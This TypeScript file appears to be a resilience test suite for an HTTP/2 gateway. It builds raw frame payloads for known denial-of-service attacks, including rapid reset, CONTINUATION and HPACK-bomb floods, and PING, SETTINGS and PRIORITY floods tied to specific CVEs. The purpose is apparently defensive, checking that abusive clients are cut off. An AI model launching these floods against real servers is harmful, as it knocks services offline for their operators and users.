import {
  block,
  callHeaders,
  flag,
  frame,
  headers,
  setting,
  type,
  uint32,
} from '@raftway/http2/testing';
import { type Attack, byClient, many, pour } from './attack';
import { open, pathOf, streamIdAt } from './calls';

const CANCEL = 8;
const zeros = (count: number): Buffer => Buffer.alloc(count);

/** A flood of connections that are closed for what they send: `batch` makes what is sent next. */
function flood(
  name: string,
  what: string,
  batch: (round: number, turn: number) => Uint8Array,
  readsNothing: (turn: number) => boolean = () => false,
): Attack {
  return byClient(name, what, async (stage, peer, turn) => {
    if (readsNothing(turn)) peer.socket.pause();
    await pour(stage, peer, (round) => batch(round, turn));
  });
}

/** The same frame over and over, beside one call that is open. Every other connection reads no answers. */
function frames(name: string, what: string, ...kinds: Uint8Array[]): Attack {
  const batches = kinds.map((one) => many(200, () => one));
  return flood(
    name,
    what,
    (round, turn) => {
      const batch = batches[turn % batches.length] ?? zeros(0);
      return round === 0 ? Buffer.concat([open(1, 'Quiet'), batch]) : batch;
    },
    (turn) => turn % 2 === 1,
  );
}

/** Calls, each on a stream of its own: `call` makes one. */
function calls(
  name: string,
  what: string,
  call: (streamId: number, index: number) => Uint8Array,
  readsNothing = false,
): Attack {
  const perRound = 20;
  const batch = (round: number): Buffer =>
    many(perRound, (at) => call(streamIdAt(round * perRound + at), round * perRound + at));
  return flood(name, what, batch, () => readsNothing);
}

/** Ways to make the gateway reset a stream of one's own. */
const provocations: readonly ((id: number) => Buffer)[] = [
  (id) => Buffer.concat([open(id, 'Quiet'), frame(type.windowUpdate, 0, id, uint32(0))]),
  (id) => Buffer.concat([open(id, 'Quiet'), frame(type.windowUpdate, 0, id, uint32(2 ** 31 - 1))]),
  (id) => Buffer.concat([open(id, 'Quiet', flag.endStream), frame(type.data, 0, id, zeros(1))]),
  (id) => Buffer.concat([open(id, 'Quiet'), frame(type.priority, 0, id, zeros(4))]),
  (id) =>
    Buffer.concat([
      headers(id, callHeaders({ ':path': pathOf('Quiet') }, 'content-length', '1')),
      frame(type.data, 0, id, zeros(9)),
    ]),
];

/** A block that says one long field again and again: small on the wire, large when decoded. */
function bomb(round: number): Buffer {
  const insert = block('x', 'v'.repeat(3000));
  insert[0] = 0x40;
  const first = Buffer.concat([insert, block(...callHeaders({ ':path': pathOf('Take') }))]);
  const opening = headersOf(1, first);
  const bombs = many(5, (at) =>
    headersOf(streamIdAt(1 + round * 5 + at), Buffer.alloc(16_000, 0xbe)),
  );
  return round === 0 ? Buffer.concat([opening, bombs]) : bombs;
}

function headersOf(streamId: number, bytes: Uint8Array): Buffer {
  return frame(type.headers, flag.endHeaders | flag.endStream, streamId, bytes);
}

function continuations(round: number, turn: number): Buffer {
  const bytes = [0, 1, 16_384][turn % 3] ?? 0;
  const more = many(5, () => frame(type.continuation, 0, 1, zeros(bytes)));
  const opening = frame(type.headers, 0, 1, block(...callHeaders({})));
  return round === 0 ? Buffer.concat([opening, more]) : more;
}

/** What is closed for its number, from the client's side. */
export const clientFloods: readonly Attack[] = [
  calls('rapid-reset', 'HEADERS and RST_STREAM (CVE-2023-44487)', (id) =>
    Buffer.concat([open(id, 'Quiet'), frame(type.reset, 0, id, uint32(CANCEL))]),
  ),
  calls(
    'made-you-reset',
    'resets provoked in five ways (CVE-2025-8671)',
    (id, index) => provocations[index % provocations.length]?.(id) ?? zeros(0),
  ),
  calls(
    'reset-flood',
    'malformed requests, each reset, no answer read (CVE-2019-9514)',
    (id) => headers(id, ['x', 'y']),
    true,
  ),
  calls('zero-length-headers', 'fields without a name (CVE-2019-9516)', (id) =>
    headers(id, callHeaders({ ':path': pathOf('Take') }, '', '', '', ''), flag.endStream),
  ),
  calls('empty-headers', 'empty header blocks', (id) => headersOf(id, zeros(0))),
  calls('deadlines', 'calls whose time is over at once', (id) =>
    headers(id, callHeaders({ ':path': pathOf('Quiet') }, 'grpc-timeout', '1n')),
  ),
  calls(
    'unread-local-replies',
    'calls of no service, no answer read',
    (id) => headers(id, callHeaders({ ':path': '/attack.Nobody/Call' }), flag.endStream),
    true,
  ),
  calls('too-many-streams', 'calls that never end, far more than allowed', (id) =>
    open(id, 'Quiet'),
  ),
  flood(
    'continuation',
    'a header block without an end (CVE-2024-27316, CVE-2024-27983)',
    continuations,
  ),
  flood('hpack-bomb', 'small blocks that decode to large lists', bomb),
  frames(
    'ping',
    'PING and its acknowledgement (CVE-2019-9512)',
    frame(type.ping, 0, 0, zeros(8)),
    frame(type.ping, 0, 0, zeros(8)),
    frame(type.ping, flag.ack, 0, zeros(8)),
  ),
  frames(
    'settings',
    'SETTINGS (CVE-2019-9515)',
    frame(type.settings, 0, 0),
    frame(type.settings, 0, 0, setting(99, 1)),
    frame(type.settings, 0, 0, setting(4, 65_535)),
  ),
  frames(
    'priority',
    'PRIORITY of idle, open and closed streams (CVE-2019-9513)',
    frame(type.priority, 0, 99, zeros(5)),
    frame(type.priority, 0, 1, zeros(5)),
    Buffer.concat([frame(type.reset, 0, 1, uint32(CANCEL)), frame(type.priority, 0, 1, zeros(5))]),
  ),
  frames(
    'window-update',
    'WINDOW_UPDATE of one byte',
    frame(type.windowUpdate, 0, 0, uint32(1)),
    frame(type.windowUpdate, 0, 1, uint32(1)),
  ),
  frames(
    'empty-data',
    'DATA without data (CVE-2019-9518)',
    frame(type.data, 0, 1),
    frame(type.data, flag.padded, 1, zeros(1)),
  ),
  frames(
    'unknown-frames',
    'frames of unknown types',
    frame(0x55, 0, 0, zeros(3)),
    frame(0x0c, 0, 0, zeros(30)),
  ),
  frames('goaway', 'GOAWAY over and over (CVE-2025-23085)', frame(type.goaway, 0, 0, zeros(8))),
];
